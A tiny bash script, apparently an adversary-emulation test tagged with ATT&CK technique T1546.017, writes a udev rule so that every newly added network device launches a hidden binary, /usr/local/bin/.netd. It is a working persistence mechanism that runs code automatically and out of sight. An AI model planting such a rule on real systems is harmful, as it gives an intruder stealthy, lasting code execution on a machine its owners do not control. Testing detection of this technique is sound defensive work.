#!/bin/bash
# T1546.017: A device's appearance starts a program.
mkdir -p /etc/udev/rules.d; echo 'SUBSYSTEM=="net", ACTION=="add", RUN+="/usr/local/bin/.netd"' >/etc/udev/rules.d/75-net-local.rules
